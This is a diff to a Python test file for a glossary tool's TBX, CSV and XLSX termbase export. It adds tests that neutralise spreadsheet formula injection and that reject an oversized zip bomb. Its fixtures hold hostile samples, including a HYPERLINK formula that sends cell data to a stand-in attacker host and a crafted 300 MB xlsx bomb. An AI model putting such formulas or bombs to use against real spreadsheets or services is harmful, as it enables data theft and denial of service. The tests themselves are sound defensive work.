@@ -8,8 +8,10 @@ from pathlib import Path
 import pytest
 
 from bipub.findings import BipubError
-from bipub.terms.glossary import COLUMNS, load_glossary
-from bipub.terms.usage import candidate_ngrams, export, import_file, stats
+from bipub.terms.glossary import load_glossary
+from bipub.terms.model import COLUMNS
+from bipub.terms.termbase import export, import_file
+from bipub.terms.usage import candidate_ngrams, stats
 from paths import CORPUS
 
 ROOT = Path(__file__).resolve().parents[2]
@@ -127,3 +129,103 @@ def test_broken_xml_is_one_error_naming_file_and_line(tmp_path):
     with pytest.raises(BipubError, match=r"broken\.tbx:4: not well-formed XML"):
         import_file(tmp_path, FIXTURES / "broken.tbx")
     assert not (tmp_path / "glossary").exists()
+
+
+# ---------------------------------------------------------------- the termbase registry: TBX, CSV, XLSX
+from bipub.formats import TERMBASES  # noqa: E402
+from bipub.formats.glossary_csv import neutralise, restore  # noqa: E402
+from bipub.terms.glossary import Term  # noqa: E402
+
+HOSTILE = [
+    Term("中联重科", "Zoomlion", ("中联",), ("China Unicom Heavy Industry", "Zhonglian Heavy Industry"), "approved",
+         note='=HYPERLINK("http://evil.example/?x="&A1,"click")', type="company"),
+    Term("负增长", "-0.5% growth", (), ("+growth",), "proposed", note="@SUM(A1:A9)"),
+    Term("引号", "'=already quoted", (), (), "approved", note="\tTab first"),
+]
+
+
+@pytest.mark.parametrize("fmt", TERMBASES.names())
+def test_every_termbase_format_gives_back_what_it_wrote(tmp_path, fmt):
+    termbase = TERMBASES.get(fmt)
+    path = tmp_path / f"g{termbase.extensions[0]}"
+    terms, _ = load_glossary(ROOT / "glossary")
+    path.write_bytes(termbase.write(terms.terms))
+    back, findings = termbase.read(path, path.name)
+    assert [f for f in findings if f.severity != "info"] == []
+    assert [tuple(getattr(t, c) for c in COLUMNS) for t in back] == content(terms)
+
+
+@pytest.mark.parametrize("cell, written", [
+    ("=1+1", "'=1+1"), ("+44 20", "'+44 20"), ("-5%", "'-5%"), ("@SUM(A1)", "'@SUM(A1)"), ("\rx", "'\rx"),
+    ("'=x", "''=x"), ("Zoomlion", "Zoomlion"), ("'quoted'", "'quoted'"), ("a=b", "a=b"),
+])
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised_and_restored(cell, written):
+    assert neutralise(cell) == written
+    assert restore(written) == cell
+
+
+def test_csv_export_runs_no_formula_and_reimports_exactly(tmp_path):
+    csv_file = tmp_path / "g.csv"
+    csv_file.write_bytes(TERMBASES.get("csv").write(HOSTILE))
+    text = csv_file.read_text(encoding="utf-8-sig")
+    assert "\n中联重科,Zoomlion," in text and ",\"'=HYPERLINK(" in text and "'-0.5% growth" in text
+    back, _ = TERMBASES.get("csv").read(csv_file, "g.csv")
+    assert [(t.en, t.forbidden, t.note) for t in back] == [(t.en, t.forbidden, t.note.replace("\t", " ").strip())
+                                                           for t in HOSTILE]
+
+
+def test_xlsx_cells_are_text_never_formulas(tmp_path):
+    from openpyxl import load_workbook
+
+    path = tmp_path / "g.xlsx"
+    path.write_bytes(TERMBASES.get("xlsx").write(HOSTILE))
+    sheet = load_workbook(path).active
+    assert [c.value for c in sheet[1]] == list(COLUMNS)
+    assert {c.data_type for row in sheet.iter_rows() for c in row if c.value} == {"s"}
+    back, _ = TERMBASES.get("xlsx").read(path, "g.xlsx")
+    assert [(t.zh, t.en, t.note) for t in back][:2] == [(t.zh, t.en, t.note) for t in HOSTILE][:2]
+
+
+def test_an_xlsx_formula_typed_by_an_editor_is_reported(tmp_path):
+    from openpyxl import Workbook
+
+    wb = Workbook()
+    wb.active.append(["Chinese", "English", "note"])
+    wb.active.append(["塔机", "tower crane", "=1+1"])
+    wb.save(tmp_path / "e.xlsx")
+    terms, findings = TERMBASES.get("xlsx").read(tmp_path / "e.xlsx", "e.xlsx")
+    assert [(t.zh, t.en, t.note, t.status) for t in terms] == [("塔机", "tower crane", "=1+1", "proposed")]
+    assert [(f.code, f.line) for f in findings] == [("glossary.formula", 2)]
+
+
+def test_an_xlsx_zip_bomb_is_refused_before_parsing(tmp_path):
+    import zipfile
+
+    path = tmp_path / "bomb.xlsx"
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
+        z.writestr("xl/big.xml", b"\0" * (300 * 1024 * 1024))
+    with pytest.raises(BipubError, match=r"^bomb.xlsx: unpacks to 300 MB, over the 256 MB limit"):
+        TERMBASES.get("xlsx").read(path, "bomb.xlsx")
+
+
+def test_tbx_approved_only_leaves_forbidden_renderings_and_proposed_terms_out():
+    data = TERMBASES.get("tbx").write(HOSTILE, approved_only=True)
+    root = ET.fromstring(data)
+    entries = root.findall(".//termEntry")
+    assert [e.find("langSet/tig/term").text for e in entries] == ["中联重科", "引号"]
+    statuses = [n.text for n in root.iter("termNote") if n.get("type") == "administrativeStatus"]
+    assert "deprecatedTerm-admn-sts" not in statuses
+    assert "Forbidden: China Unicom Heavy Industry | Zhonglian Heavy Industry" in entries[0].find("note").text
+
+
+def test_tbx_v3_is_written_and_read_back(tmp_path):
+    from bipub.formats.tbx import format_tbx
+
+    path = tmp_path / "g.tbx"
+    path.write_bytes(format_tbx(HOSTILE, version=3))
+    root = ET.parse(path).getroot()
+    assert root.tag == "{urn:iso:std:iso:30042:ed-2}tbx" and root.get("type") == "TBX-Basic"
+    back, findings = TERMBASES.get("tbx").read(path, "g.tbx")
+    assert findings == []
+    assert [(t.zh, t.en, t.variants, t.forbidden, t.status) for t in back] == [
+        (t.zh, t.en, t.variants, t.forbidden, t.status) for t in HOSTILE]
